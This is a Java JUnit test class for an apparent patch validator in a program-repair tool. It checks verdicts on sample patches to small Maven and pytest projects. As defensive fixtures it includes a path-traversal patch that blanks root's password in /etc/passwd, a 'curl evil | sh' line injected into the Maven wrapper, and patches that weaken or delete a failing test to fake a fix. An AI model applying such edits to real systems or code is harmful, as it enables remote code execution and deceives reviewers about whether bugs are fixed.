package dev.repofix.validate;

import static org.assertj.core.api.Assertions.assertThat;

import dev.repofix.build.BuildDetector;
import dev.repofix.build.BuildSystem;
import dev.repofix.build.TestCommand;
import dev.repofix.config.HostEnvironment;
import dev.repofix.exec.LocalProcessExecutor;
import dev.repofix.patch.PatchApplier;
import dev.repofix.patch.PatchText;
import dev.repofix.stage.PatchCandidate;
import dev.repofix.testrun.ReportParsers;
import dev.repofix.testrun.StackFrameExtractor;
import dev.repofix.testrun.TestOutcome;
import dev.repofix.testrun.TestRunner;
import dev.repofix.workspace.Workspace;
import dev.repofix.workspace.Workspaces;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.Duration;
import java.util.Map;
import java.util.Optional;
import java.util.stream.Stream;
import org.eclipse.jgit.api.Git;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The verdicts on real patches (valid, wrong, tampered, unsafe, damaged but placeable)
 * against the bundled Maven and pytest examples, with real {@code mvn} and {@code pytest}.
 * One baseline per project; each patch is validated in its own copies.
 */
@Tag("slow")
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class RealPatchesTest {
    private static final String ACCOUNT = "src/main/java/com/example/bank/Account.java";
    private static final String ACCOUNT_TEST = "src/test/java/com/example/bank/AccountTest.java";
    private static final String INTEREST = "src/main/java/com/example/bank/InterestCalculator.java";
    private static final String INTEREST_TEST = "src/test/java/com/example/bank/InterestCalculatorTest.java";
    private static final String STOCK = "inventory/stock.py";
    private static final String STOCK_TEST = "tests/test_stock.py";

    /**
     * The limit of the row that hangs the tests, run once per variant and always waited out:
     * RunLimits' own floor. The example's whole build and suite take a few seconds, so its
     * tests are reached well inside it; a shorter wait only makes TIMEOUT likelier, never
     * another verdict, so no row can fail for it.
     */
    private static final Duration HANG_LIMIT = RunLimits.MIN;

    /**
     * The rows that are only another shape of the exact fix (an offset hunk, CRLF, a
     * search/replace block, a fence...): placed, they leave the tree the exact fix leaves
     * ({@link #theShapesOfTheExactFixPlaceItsChange}). Not "indentation damaged": its line
     * is placed indented deeper, so it is another change and the variants run it. Reading and
     * placing a patch come before the validator's mode matters, so the variants below
     * (screening, test selection, the baseline's classes) run every row but these: every
     * verdict, and every kind of change (a body, a test added, weakened or deleted, a
     * signature, a compile error, a hang).
     */
    private static final java.util.Set<String> SHAPES_OF_THE_EXACT_FIX = java.util.Set.of("maven: hunk 30 lines off",
            "maven: no diff --git, no a/ b/", "maven: wrong hunk counts", "maven: CRLF patch",
            "maven: search/replace block", "maven: fenced in prose");

    private Path temp;

    private final Map<String, Project> projects = new java.util.HashMap<>();

    /**
     * A checked-out example with its baseline, shared by the cases of that project; for
     * Maven also a validator that screens in a warm test JVM first.
     */
    record Project(Workspace ws, PatchValidator validator, Baseline baseline, Optional<PatchValidator> screened,
            Optional<Screening> screening, Optional<PatchValidator> selecting, Optional<Baseline> covered,
            Optional<PatchValidator> reusing) {}

    @BeforeAll
    void baselines(@TempDir Path dir) throws Exception {
        temp = dir;
        projects.put("maven", open("maven-bank"));
        projects.put("pytest", open("python-inventory"));
    }

    @AfterAll
    void close() {
        projects.values().forEach(p -> p.screening().ifPresent(Screening::close));
        projects.values().forEach(p -> p.ws().close());
    }

    Stream<Arguments> patches() {
        return Stream.of(
                // Valid, in the many shapes models write them.
                maven("exact fix", Verdict.VALID, gitDiff(ACCOUNT, 42, "        if (amount >= balance) {", "        if (amount > balance) {")),
                maven("hunk 30 lines off", Verdict.VALID, gitDiff(ACCOUNT, 12, "        if (amount >= balance) {", "        if (amount > balance) {")),
                maven("no diff --git, no a/ b/", Verdict.VALID, gitDiff(ACCOUNT, 42, "        if (amount >= balance) {", "        if (amount > balance) {")
                        .replaceFirst("diff --git.*\n", "").replace("--- a/", "--- ").replace("+++ b/", "+++ ")),
                maven("wrong hunk counts", Verdict.VALID, gitDiff(ACCOUNT, 42, "        if (amount >= balance) {", "        if (amount > balance) {")
                        .replaceFirst("@@ .* @@", "@@ -42,99 +42,1 @@")),
                maven("CRLF patch", Verdict.VALID, gitDiff(ACCOUNT, 42, "        if (amount >= balance) {", "        if (amount > balance) {")
                        .replace("\n", "\r\n")),
                maven("search/replace block", Verdict.VALID, ACCOUNT + "\n<<<<<<< SEARCH\n        if (amount >= balance) {\n=======\n"
                        + "        if (amount > balance) {\n>>>>>>> REPLACE\n"),
                maven("indentation damaged", Verdict.VALID, gitDiff(ACCOUNT, 42, "        if (amount >= balance) {", "        if (amount > balance) {")
                        .replace("\n-        ", "\n-    ")),
                maven("fenced in prose", Verdict.VALID, "Here is the fix:\n```diff\n"
                        + gitDiff(ACCOUNT, 42, "        if (amount >= balance) {", "        if (amount > balance) {") + "```\nIt allows it.\n"),
                maven("fix plus a new test", Verdict.VALID, gitDiff(ACCOUNT, 42, "        if (amount >= balance) {", "        if (amount > balance) {")
                        + addTest("    void withdrawAlmostAll() {\n        Account a = new Account(\"b\", 10);\n        a.withdraw(9);\n"
                                + "        assertEquals(1, a.balance());\n    }\n")),
                // Wrong.
                maven("equality instead", Verdict.TESTS_FAIL, gitDiff(ACCOUNT, 42, "        if (amount >= balance) {", "        if (amount == balance) {")),
                maven("does not compile", Verdict.BUILD_FAILED, gitDiff(ACCOUNT, 42, "        if (amount >= balance) {", "        if (amount >= balance) {{")),
                maven("fix with a failing new test", Verdict.TESTS_FAIL, gitDiff(ACCOUNT, 42, "        if (amount >= balance) {", "        if (amount > balance) {")
                        + addTest("    void wrongExpectation() {\n        assertEquals(1, new Account(\"c\", 2).balance());\n    }\n")),
                maven("hangs the tests", Verdict.TIMEOUT, gitDiff(ACCOUNT, 42, "        if (amount >= balance) {", "        while (amount > 0) { amount += 0; } if (amount > balance) {")),
                // Tampered: passes only through its test edits.
                maven("weakens the failing test", Verdict.TESTS_TAMPERED, "--- a/" + ACCOUNT_TEST + "\n+++ b/" + ACCOUNT_TEST
                        + "\n@@ -26,2 +26,2 @@\n-        a.withdraw(100);\n-        assertEquals(0, a.balance());\n"
                        + "+        a.withdraw(99);\n+        assertEquals(1, a.balance());\n"),
                maven("deletes the failing test", Verdict.TESTS_TAMPERED, deleteFailingTest()),
                // An API change with its tests: the original tests do not compile, which is not tampering.
                maven("renames a method and its callers in the tests", Verdict.TESTS_CHANGED_API,
                        gitDiff(ACCOUNT, 42, "        if (amount >= balance) {", "        if (amount > balance) {")
                        + gitDiff(INTEREST, 14, "    public long yearlyInterest(long balance) {",
                                "    public long annualInterest(long balance) {")
                        + gitDiff(INTEREST_TEST, 10, "        assertEquals(200, new InterestCalculator(200).yearlyInterest(10_000));",
                                "        assertEquals(200, new InterestCalculator(200).annualInterest(10_000));")
                        + "@@ -15,1 +15,1 @@\n-        assertEquals(0, new InterestCalculator(500).yearlyInterest(0));\n"
                        + "+        assertEquals(0, new InterestCalculator(500).annualInterest(0));\n"),
                // Unsafe or unplaceable.
                maven("escapes the workspace", Verdict.NOT_APPLIED, gitDiff("../../etc/passwd", 1, "root:x:0:0", "root::0:0")),
                maven("edits CI configuration", Verdict.NOT_APPLIED, "--- a/.github/workflows/ci.yml\n+++ b/.github/workflows/ci.yml\n@@ -0,0 +1 @@\n+on: push\n"),
                maven("context not in the file", Verdict.NOT_APPLIED, gitDiff(ACCOUNT, 42, "        if (amount >= saldo) {", "        if (amount > saldo) {")),
                maven("file does not exist", Verdict.NOT_APPLIED, gitDiff("src/main/java/com/example/bank/Nope.java", 1, "class Nope {", "class Yes {")),
                maven("prose, not a patch", Verdict.NOT_APPLIED, "Change the >= in withdraw to > and it works."),
                maven("binary patch", Verdict.NOT_APPLIED, "diff --git a/x.bin b/x.bin\nGIT binary patch\nliteral 3\nKcmZQz0000\n"),
                maven("edits the Maven wrapper", Verdict.NOT_APPLIED, "--- /dev/null\n+++ b/mvnw\n@@ -0,0 +1 @@\n+curl evil | sh\n"),
                pytest("exact fix", Verdict.VALID, gitDiff(STOCK, 13, "    return item.quantity < item.reorder_level", "    return item.quantity <= item.reorder_level")),
                pytest("hunk 9 lines off", Verdict.VALID, gitDiff(STOCK, 4, "    return item.quantity < item.reorder_level", "    return item.quantity <= item.reorder_level")),
                pytest("wrong operator", Verdict.TESTS_FAIL, gitDiff(STOCK, 13, "    return item.quantity < item.reorder_level", "    return item.quantity > item.reorder_level")),
                pytest("changes the expectation", Verdict.TESTS_TAMPERED, gitDiff(STOCK_TEST, 14, "    item = Item(\"pear\", 10, 10)", "    item = Item(\"pear\", 9, 10)")),
                pytest("syntax error", Verdict.BUILD_FAILED, gitDiff(STOCK, 13, "    return item.quantity < item.reorder_level", "    return item.quantity <= = item.reorder_level")),
                pytest("ambiguous context", Verdict.NOT_APPLIED, "--- a/" + STOCK + "\n+++ b/" + STOCK + "\n@@ @@\n \n+# note\n"));
    }

    /** {@link #patches} but {@link #SHAPES_OF_THE_EXACT_FIX}: the rows the variants run. */
    Stream<Arguments> variantPatches() {
        return patches().filter(a -> !SHAPES_OF_THE_EXACT_FIX.contains((String) a.get()[0]));
    }

    /**
     * What lets the variants skip {@link #SHAPES_OF_THE_EXACT_FIX}: each shape, placed in a
     * copy of its own, leaves every file as the exact fix does.
     */
    @org.junit.jupiter.api.Test
    void theShapesOfTheExactFixPlaceItsChange() throws IOException {
        Map<String, String> diffs = new java.util.HashMap<>();
        patches().forEach(a -> diffs.put((String) a.get()[0], (String) a.get()[3]));
        Workspace ws = projects.get("maven").ws();
        Map<Path, String> exact = placed(ws, diffs.get("maven: exact fix"));
        assertThat(exact).as("the exact fix changes Account.java").containsKey(Path.of(ACCOUNT));
        assertThat(SHAPES_OF_THE_EXACT_FIX).allSatisfy(name -> {
            assertThat(diffs).as("a row of the table").containsKey(name);
            assertThat(placed(ws, diffs.get(name))).as(name).isEqualTo(exact);
        });
    }

    /** The files {@code diff} changes, by relative path, with their content once placed in a new copy. */
    private static Map<Path, String> placed(Workspace ws, String diff) {
        Path copy = ws.newCopy("shape");
        try {
            var applied = new PatchApplier().apply(copy, diff);
            assertThat(applied).as(diff).isInstanceOf(dev.repofix.patch.ApplyResult.Applied.class);
            Map<Path, String> out = new java.util.TreeMap<>();
            for (String f : ((dev.repofix.patch.ApplyResult.Applied) applied).files()) {
                out.put(Path.of(f), Files.readString(copy.resolve(f)));
            }
            return out;
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        } finally {
            ws.discard(copy);
        }
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("patches")
    void givesTheRightVerdict(String name, String project, Verdict expected, String diff) {
        Project p = projects.get(project);
        Duration limit = expected == Verdict.TIMEOUT ? HANG_LIMIT : Duration.ofMinutes(3);
        Validation v = p.validator().validate(new PatchCandidate("t", "test", "", 1, name, PatchText.read(diff)), p.baseline(), limit);
        assertThat(v.verdict()).as("%s: %s %s", name, v.detail(), v.evidence()).isEqualTo(expected);
        assertThat(v.candidateId()).isEqualTo("t");
        if (expected == Verdict.VALID) {
            assertThat(v.fixed()).isEqualTo(p.baseline().failing());
            assertThat(v.broken()).isEmpty();
        }
        if (expected == Verdict.NOT_APPLIED || expected == Verdict.BUILD_FAILED) {
            assertThat(v.detail()).isNotBlank();
        }
    }

    /**
     * Screening in the warm JVM must not change a verdict: a candidate it rejects is one
     * the full build rejects for the same reason, and one it passes gets the full build.
     */
    @ParameterizedTest(name = "{0}")
    @MethodSource("variantPatches")
    void screeningInAWarmJvmGivesTheFullBuildsVerdict(String name, String project, Verdict expected, String diff) {
        Project p = projects.get(project);
        assertVerdict(p.screened(), p.baseline(), "screening is for Maven projects", name, expected, diff);
    }

    /** {@code validator}'s verdict on the patch against {@code baseline}; skipped without a validator. */
    private static void assertVerdict(Optional<PatchValidator> validator, Baseline baseline, String why, String name,
            Verdict expected, String diff) {
        org.junit.jupiter.api.Assumptions.assumeTrue(validator.isPresent(), why);
        Duration limit = expected == Verdict.TIMEOUT ? HANG_LIMIT : Duration.ofMinutes(3);
        Validation v = validator.get().validate(new PatchCandidate("s", "test", "", 1, name, PatchText.read(diff)),
                baseline, limit);
        assertThat(v.verdict()).as("%s: %s %s", name, v.detail(), v.evidence()).isEqualTo(expected);
    }

    /**
     * Test selection in the deciding run must not change a verdict: with the whole suite's
     * per-test coverage (JaCoCo) in the baseline, each patch gets the verdict the whole suite gives.
     */
    @ParameterizedTest(name = "{0}")
    @MethodSource("variantPatches")
    void testSelectionGivesTheWholeSuitesVerdict(String name, String project, Verdict expected, String diff) {
        Project p = projects.get(project);
        assertVerdict(p.selecting(), p.covered().orElse(p.baseline()), "per-test coverage is for Maven", name,
                expected, diff);
    }

    /**
     * The baseline's compiled classes in the deciding run must not change a verdict: a patch that
     * changes only method bodies compiles only its files, on top of the baseline's classes.
     */
    @ParameterizedTest(name = "{0}")
    @MethodSource("variantPatches")
    void theBaselinesCompiledClassesGiveTheFullBuildsVerdict(String name, String project, Verdict expected,
            String diff) {
        assertVerdict(projects.get(project).reusing(), projects.get(project).baseline(),
                "the compiled classes are Maven's", name, expected, diff);
    }

    private Project open(String example) throws Exception {
        Path repo = temp.resolve(example);
        copyTree(Path.of("examples", example), repo);
        try (Git git = Git.init().setDirectory(repo.toFile()).call()) {
            git.add().addFilepattern(".").call();
            git.commit().setMessage("example").setAuthor("t", "t@example.org").setCommitter("t", "t@example.org")
                    .setSign(false).call();
        }
        Clock clock = Clock.systemUTC();
        Workspace ws = new Workspaces(temp.resolve("work"), Duration.ofMinutes(1)).open(repo.toString(), Optional.empty());
        BuildSystem build = new BuildDetector().detect(ws.root(), Optional.empty());
        TestCommand command = build.testCommand(ws.root(), null);
        TestRunner runner = new TestRunner(new LocalProcessExecutor(clock), HostEnvironment.fromSystem(),
                ReportParsers.standard(), new StackFrameExtractor());
        SuiteRunner suite = new SuiteRunner(build, command, null, runner, ws.files());
        // In a copy of its own, as the pipeline does: screening reuses the outputs it leaves.
        Path baselineCopy = ws.newCopy("baseline");
        TestOutcome.Completed baseline = (TestOutcome.Completed) suite.all(baselineCopy, Duration.ofMinutes(3));
        Baseline b = Baseline.of(baseline.run());
        PatchValidator plain = new PatchValidator(ws, suite, new PatchApplier(), clock, true);
        Screenings.Opened opened = new WarmJvmScreenings(new LocalProcessExecutor(clock), HostEnvironment.fromSystem(),
                clock).open(baselineCopy, build, command, null, b.failing(), dev.repofix.env.PreparedEnvironment.none());
        Optional<PatchValidator> screened = opened.screening().map(s -> new PatchValidator(ws, suite,
                new PatchApplier(), clock, true, RunLimits.none(), Optional.of(s)));
        if (build instanceof dev.repofix.build.MavenBuild) {
            assertThat(opened.screening()).as("screening opens on the Maven example: %s", opened.why()).isPresent();
        }
        Optional<PatchValidator> selecting = Optional.empty();
        Optional<Baseline> covered = Optional.empty();
        if (build instanceof dev.repofix.build.MavenBuild) {
            dev.repofix.repair.BuiltinStages stages = dev.repofix.repair.BuiltinStages.withCoverage(
                    new LocalProcessExecutor(clock), HostEnvironment.fromSystem(), Duration.ofMinutes(3), clock,
                    dev.repofix.repair.localize.SpectrumFormula.OCHIAI, Optional.empty(),
                    dev.repofix.repair.localize.CoverageRuns.Scope.SUITE);
            stages.localize(new dev.repofix.testrun.FailureReport(command.shell(), baseline.run(),
                    baseline.run().failing(), "", ws.files(), build), new dev.repofix.stage.IssueDraft("t", "d", "e", "b"));
            assertThat(stages.reach()).as("the whole suite's reach: %s", stages.notes()).isPresent();
            covered = Optional.of(b.withReach(stages.reach().get()));
            selecting = Optional.of(new PatchValidator(ws, suite, new PatchApplier(), clock, true, RunLimits.none(),
                    Optional.empty(), dev.repofix.exec.SandboxKind.LOCAL, true));
        }
        // No screening through the build first: the deciding run starts in a copy with no build output.
        Optional<PatchValidator> reusing = build instanceof dev.repofix.build.MavenBuild
                ? Optional.of(new PatchValidator(ws, suite, new PatchApplier(), clock, false, RunLimits.none(),
                        Optional.empty(), dev.repofix.exec.SandboxKind.LOCAL, false, Optional.of(baselineCopy)))
                : Optional.empty();
        return new Project(ws, plain, b, screened, opened.screening(), selecting, covered, reusing);
    }

    private static void copyTree(Path from, Path to) throws IOException {
        try (Stream<Path> walk = Files.walk(from)) {
            for (Path p : walk.filter(Files::isRegularFile).toList()) {
                String rel = from.relativize(p).toString();
                if (!rel.startsWith("target") && !rel.contains("__pycache__")) {
                    Files.createDirectories(to.resolve(rel).getParent());
                    Files.copy(p, to.resolve(rel));
                }
            }
        }
    }

    private static Arguments maven(String name, Verdict v, String diff) {
        return Arguments.of("maven: " + name, "maven", v, diff);
    }

    private static Arguments pytest(String name, Verdict v, String diff) {
        return Arguments.of("pytest: " + name, "pytest", v, diff);
    }

    /** A one-line change with one line of context on each side taken as given. */
    private static String gitDiff(String path, int start, String before, String after) {
        return "diff --git a/" + path + " b/" + path + "\n--- a/" + path + "\n+++ b/" + path + "\n@@ -" + start
                + ",1 +" + start + ",1 @@\n-" + before + "\n+" + after + "\n";
    }

    private static String addTest(String method) {
        return "--- a/" + ACCOUNT_TEST + "\n+++ b/" + ACCOUNT_TEST + "\n@@ -38,4 +38,9 @@\n"
                + "         assertThrows(IllegalArgumentException.class, () -> a.deposit(-1));\n     }\n+\n+    @Test\n"
                + method.lines().map(l -> "+" + l + "\n").reduce("", String::concat) + " }\n";
    }

    private static String deleteFailingTest() {
        return "--- a/" + ACCOUNT_TEST + "\n+++ b/" + ACCOUNT_TEST + "\n@@ -22,7 +22,0 @@\n"
                + "-    @Test\n-    void withdrawEntireBalanceLeavesZero() {\n-        Account a = new Account(\"ada\", 100);\n"
                + "-        a.withdraw(100);\n-        assertEquals(0, a.balance());\n-    }\n-\n";
    }
}
